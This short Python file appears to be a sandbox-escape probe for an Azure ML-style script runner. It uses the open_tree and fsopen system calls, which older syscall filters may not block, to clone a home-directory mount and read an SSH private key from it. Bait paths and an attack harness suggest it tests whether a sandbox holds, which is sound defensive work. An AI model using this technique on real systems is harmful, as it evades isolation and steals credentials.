"""Mounts by the calls that older filters do not know."""

import os

from attack import BAIT, attack, call, every, told


def by_tree():
    tree = call("open_tree", -100, BAIT["home"].encode(), 1 | 0o2000000 | 0x8000)  # a copy, with what lies below
    key = os.open(os.path.relpath(BAIT["ssh_key"], BAIT["home"]), os.O_RDONLY, dir_fd=tree)
    return told("a copied tree", os.read(key, 200))


def by_new_one():
    made = call("fsopen", b"tmpfs", 0)
    os.close(made)
    return "began to make a file system"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(), [by_tree, by_new_one])
